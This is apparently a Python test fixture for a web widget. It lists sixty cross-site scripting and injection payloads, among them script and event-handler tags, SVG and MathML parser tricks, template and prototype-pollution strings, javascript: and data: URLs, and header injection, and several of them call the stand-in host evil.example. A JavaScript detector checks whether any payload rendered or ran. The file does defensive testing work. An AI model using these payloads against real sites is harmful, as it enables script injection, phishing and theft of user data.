"""Sixty texts that would become something else in a page that takes words for markup, an address, a style or code.

Each one that ran would open a dialog, set `window.hurt`, or send a request to evil.example; each one that became markup
would leave an element, an attribute or a name behind. `READ_HARM` looks for all of that in a page.
"""

TAGS = (
    "<script>hurt=1;alert(1)</script>",
    "</script><script>alert(2)</script><script>",
    "<SCRIPT/x src='//evil.example/3.js'></SCRIPT>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<img src=x onerror=alert(5)>",
    "<IMG SRC=x OnErRoR\n=\n'hurt=6;alert(6)'>",
    "<img/src=x/onerror=alert(7)//",
    "<img srcset='https://evil.example/8.png 1x' alt=8>",
    "<video><source onerror=alert(9)></video>",
    "<audio src=x onloadstart=alert(10) autoplay>",
    "<body onload=alert(11) onpageshow=alert(11)>",
    "<details open ontoggle=alert(12)><summary>12</summary></details>",
    "<input autofocus onfocus=alert(13) name=attributes>",
    "<marquee onstart=alert(14)>14</marquee>",
    "<iframe srcdoc='<script>parent.hurt=15;parent.alert(15)</script>'></iframe>",
    "<iframe src=\"javascript:parent.alert('16')\"></iframe>",
    "<object data='data:text/html,<script>alert(17)</script>'></object>",
    "<embed src=https://evil.example/18.swf>",
    "<form action=https://evil.example/19><button autofocus>Sign in again</button></form>",
    "<base href='https://evil.example/20/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/21'>",
    "<link rel=stylesheet href=https://evil.example/22.css>",
    "<link rel=dns-prefetch href=//evil.example><link rel=preload as=image href=https://evil.example/23>",
    "<dialog open><h1>Your session has ended</h1></dialog>",
)
FOREIGN = (
    "<svg/onload=alert(25)>",
    "<svg><script>alert(26)</script></svg>",
    "<svg><animate onbegin=alert(27) attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"/>#x'></use></svg>",
    "<svg><a xlink:href='javascript:alert(29)'><text y=20>29</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(30)'>30</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(31)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(32)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(33)>'></noscript>",
    "<template><img src=x onerror=alert(34)></template><slot name=x>34</slot>",
    "<textarea></textarea><img src=x onerror=alert(35)></title></style></select>",
    "<!--><img src=x onerror=alert(36)>--!><![CDATA[<img src=x onerror=alert(36)>]]>",
)
OUT_OF_PLACE = (
    '" autofocus onfocus=alert(37) x="',
    "' onmouseover='alert(38)' style='position:fixed;inset:0",
    "`><img src=x onerror=alert(39)>",
    "</p></article></guanxi-panel><h1>Mara</h1>",
    "?<lit$123456789$?><!--?lit$123456789$-->${alert(41)}",
    "{{constructor.constructor('alert(42)')()}} ${hurt=42} #{7*7} <%= 7*7 %> [[${7*7}]]",
    '\\"};alert(43);//\\u003cscript\\u003ealert(43)\\u003c/script\\u003e',
    '{"kind":"rep_said","by":{"role":"rep","name":"Mara"},"__proto__":{"hurt":44}}',
    "&lt;img src=x onerror=alert(45)&gt; &#60;script&#62;alert(45)&#60;/script&#62; &amp;lt;",
    "[press](javascript:alert(46)) ![x](https://evil.example/46.png) <https://evil.example/46>",
    "<style>*{display:none}@import'https://evil.example/47.css';</style>",
    "red;background:url(https://evil.example/48);--x:expression(alert(48))}*{display:none",
    "<img name=getElementById><a id=hurt><form id=guanxi name=body><input name=children></form>",
    "<guanxi-panel open></guanxi-panel><guanxi-widget></guanxi-widget><div id=guanxi>50</div>",
)
ADDRESSES = (
    "javascript:alert(51)",
    "JaVa\tScRiPt\n:alert(52)",
    "\x01javascript:hurt=53;alert(53)",
    "java&#x73;cript&colon;alert(54)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg1NSk8L3NjcmlwdD4=",
    "vbscript:msgbox(56)",
    "//evil.example/57\\@shop.example/%0d%0aSet-Cookie:x=57",
)
SIGNS = (
    "\u202e\u2066<img src=x onerror=alert(58)>\u2069\u202c lived\u200b\u200d\ufeff",
    "\x00<\x00img src=x onerror=alert(59)>\ufffe \uff1cscript\uff1ealert(59)\uff1c/script\uff1e",
    "\u2028alert(60)\u2029 Z\u0351\u036f\u0334\u0308a\u0310l\u0334go",
)
PAYLOADS = (*TAGS, *FOREIGN, *OUT_OF_PLACE, *ADDRESSES, *SIGNS)

# Elements, attributes and names in a page that only a text can have made; shadow roots are looked through too.
READ_HARM = r"""() => {
  const NEVER = /^(?:iframe|object|embed|base|frame|marquee|video|audio|math|noscript|animate|use|foreignobject)$/i;
  const NOT_OURS = /^(?:script|style|meta|link|template|h1)$/i;
  const ADDRESS = /^(?:href|src|action|formaction|data|xlink:href)$/i;
  const elsewhere = (value) => {
    const { protocol, host } = new URL(value, location.href);
    return !/^(?:https?|mailto|tel):$/.test(protocol) || host.includes('evil.example');
  };
  const harm = (name, value) => {
    if (/^on/i.test(name)) return true;
    return ADDRESS.test(name) ? elsewhere(value) : /^(?:srcset|style)$/i.test(name) && value.includes('evil.example');
  };
  const found = [];
  const walk = (root, ours) => {
    for (const at of root.querySelectorAll('*')) {
      const told = at.outerHTML.slice(0, 160);
      if (NEVER.test(at.localName)) found.push(told);
      if (ours && NOT_OURS.test(at.localName) && !at.closest('.unseen, form')) found.push(told);
      for (const { name, value } of at.attributes) {
        if (harm(name, value)) found.push(told);
      }
      if (at.shadowRoot) walk(at.shadowRoot, true);
    }
  };
  walk(document, false);
  if (window.hurt !== undefined || {}.hurt !== undefined) found.push('something ran');
  if (document.querySelectorAll('guanxi-widget, guanxi-console').length > 1) found.push('a second one of us');
  return found;
}"""
